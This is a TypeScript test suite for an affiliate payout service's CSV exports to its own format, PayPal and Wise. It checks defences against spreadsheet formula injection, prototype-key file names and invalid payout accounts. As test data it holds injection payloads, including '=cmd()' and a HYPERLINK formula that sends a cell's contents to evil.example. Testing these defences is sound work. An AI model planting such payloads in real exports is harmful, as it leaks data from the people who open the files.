import { expect, test } from 'bun:test'
import { payout } from '@tributary/contract'
import { expectRefusal, givenClick, givenLink, unique } from '../support/given.ts'
import { givenPayingProgram, type PayingProgram } from '../support/money.ts'
import { startTestService } from '../support/service.ts'

const service = await startTestService()
const REWARD = { lead: { amountCents: 100 }, sale: { percentBps: 1_000, duration: 'lifetime' }, holdDays: 0 }

const exported = ({ api, owner }: PayingProgram, payoutId: number, file: string) =>
  fetch(`${service.url}${api}/payouts/${payoutId}/export?file=${file}`, { headers: { cookie: owner.cookie } })

test('a payout exports for us, PayPal and Wise, without formulas, only what is open', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, {
    name: '=cmd(), "Ltd"',
    email: 'pay@example.com',
  })
  await program.sale({ customer_key: await program.customer(), amount: 123_456, invoice_id: 'in-1' })
  const batch = payout.parse(await program.pay())
  const file = async (name: string) => (await exported(program, batch.id, name)).text()
  const [line] = batch.lines
  expect(await file('tributary')).toBe(
    `payout_line_id,partner_id,partner_code,name,email,amount,currency,method,account,holder\r\n${line?.id},${program.link.partnerId},${program.link.partnerCode},"'=cmd(), ""Ltd""",pay@example.com,124.46,USD,,,\r\n`,
  )
  expect(await file('paypal')).toBe(
    `pay@example.com,124.46,USD,payout-${batch.id}-${line?.id},Partner commission,PayPal\r\n`,
  )
  expect(await file('wise')).toBe(
    `name,recipientEmail,paymentReference,amountCurrency,amount,sourceCurrency,targetCurrency,type\r\n"'=cmd(), ""Ltd""",pay@example.com,payout-${batch.id}-${line?.id},target,124.46,USD,USD,EMAIL\r\n`,
  )
  for (const name of ['bank', '__proto__', 'toString'])
    expectRefusal(
      await program.owner.call('GET', `${program.api}/payouts/${batch.id}/export?file=${name}`),
      400,
      'invalid_request',
    )
  await program.decide(batch.id, line?.id ?? 0, { status: 'paid' })
  expect((await file('tributary')).trim().split('\r\n')).toHaveLength(1)
})

test('no cell of any file of a payout is a formula, whatever a partner is called', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
  const { id } = await program.pay()
  for (const name of ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.example/?"&B2,"Ltd")'])
    for (const file of ['tributary', 'paypal', 'wise']) {
      const partner = { name, email: 'pay@example.com' }
      await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, partner)
      const answer = await exported(program, id, file)
      expect(answer.status).toBe(200)
      const cells = (await answer.text()).split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      expect(cells.length).toBeGreaterThan(5)
      expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
    }
})

test('a file pays to the account that a partner has named, and nobody who wants to be paid another way', async () => {
  const program = await givenPayingProgram(service, REWARD)
  const partner = `${program.api}/partners/${program.link.partnerId}`
  await program.owner.call('PATCH', partner, { email: 'contact@example.com' })
  await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
  const { id } = await program.pay()
  const wants = (method: string, account: string) =>
    service.db
      .insertInto('partnerPayoutDetails')
      .values({
        ...{ programId: program.id, partnerId: program.link.partnerId, method, account, holder: 'Maya', note: null },
        updatedAt: new Date(),
      })
      .onConflict((conflict) => conflict.columns(['programId', 'partnerId']).doUpdateSet({ method, account }))
      .execute()
  await wants('paypal', 'wallet@example.com')
  expect(await (await exported(program, id, 'paypal')).text()).toStartWith('wallet@example.com,')
  const answer = await exported(program, id, 'wise')
  expect(answer.status).toBe(409)
  expect(await answer.text()).toContain('Partner (paypal)')
  // One character more would be somebody else's address, so it stays as it is.
  await wants('paypal', '+wallet@example.com')
  expect(await (await exported(program, id, 'paypal')).text()).toStartWith('+wallet@example.com,')
  for (const method of ['paypal', 'wise'])
    for (const account of ['not an address', '=HYPERLINK("https://evil.example/","me@example.com")', '@SUM(1)']) {
      await wants(method, account)
      expect((await exported(program, id, method)).status).toBe(409)
    }
  expect((await exported(program, id, 'tributary')).status).toBe(200)
  await wants('bank', 'DE89370400440532013000')
  expect(await (await exported(program, id, 'tributary')).text()).toEndWith('USD,bank,DE89370400440532013000,Maya\r\n')
})

test('where one partner wants PayPal and another Wise, each is in the file of theirs, and noted as handed out there alone', async () => {
  const program = await givenPayingProgram(service, REWARD)
  const others = [await givenLink(service, program.id), await givenLink(service, program.id)]
  const wishes = { paypal: program.link, wise: others[0], none: others[1] }
  for (const [method, link] of Object.entries(wishes)) {
    const partnerId = link?.partnerId ?? 0
    await program.owner.call('PATCH', `${program.api}/partners/${partnerId}`, { email: `${method}@example.com` })
    const details = { account: `${method}-wallet@example.com`, holder: 'H', note: null, updatedAt: new Date() }
    if (method !== 'none')
      await service.db
        .insertInto('partnerPayoutDetails')
        .values({ programId: program.id, partnerId, method, ...details })
        .execute()
    const customer_key = unique('customer')
    if (link) await program.lead({ customer_key, click_id: await givenClick(service, link) })
    await program.sale({ customer_key, amount: 1_000, invoice_id: `in-${method}` })
  }
  const { id } = await program.pay()
  const paidBy = async (file: string) => {
    const text = await (await exported(program, id, file)).text()
    return text.match(/[\w-]+@example.com/g)?.toSorted()
  }
  const handedOut = async () => {
    const lines = await service.db.selectFrom('payoutLines').selectAll().where('payoutId', '=', id).execute()
    return lines.filter(({ exportedCents }) => exportedCents !== null).length
  }
  expect(await paidBy('paypal')).toEqual(['none@example.com', 'paypal-wallet@example.com'])
  expect(await handedOut()).toBe(2)
  expect(await paidBy('wise')).toEqual(['none@example.com', 'wise-wallet@example.com'])
  expect(await handedOut()).toBe(3)
})

test('a file that its receiver would refuse is not made', async () => {
  const program = await givenPayingProgram(service, REWARD)
  await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1', currency: 'EUR' })
  const { id } = await program.pay()
  const asked = (query: string) => program.owner.call('GET', `${program.api}/payouts/${id}/export?${query}`)
  expectRefusal(await asked('file=paypal'), 400, 'invalid_request')
  expectRefusal(await asked('file=paypal&currency=EUR'), 409, 'conflict')
})
